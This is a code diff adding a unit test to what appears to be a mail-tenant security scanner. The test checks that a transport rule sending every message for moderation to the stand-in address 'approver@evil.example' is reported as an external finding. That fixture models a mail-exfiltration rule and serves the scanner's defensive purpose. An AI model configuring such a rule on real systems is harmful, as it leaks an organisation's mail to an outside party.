@@ -552,6 +552,22 @@ describe('filters', () => {
     })
   })
 
+  it('a transport rule that sends every message to an outside moderator is a finding', async () => {
+    const finding = await onlyFinding(
+      tenant().transportRule({
+        Name: 'Approval',
+        ModerateMessageByUser: ['approver@evil.example'],
+      }),
+      { all_users: true, include_transport_rules: true }
+    )
+    expect(finding).toMatchObject({
+      action: 'moderate',
+      destination: 'approver@evil.example',
+      external: true,
+    })
+    expect(finding.actions).toEqual(['send for moderation to approver@evil.example'])
+  })
+
   it('transport rules are reported even when the user scope names one mailbox', async () => {
     const findings = await findingsOf(
       tenant()
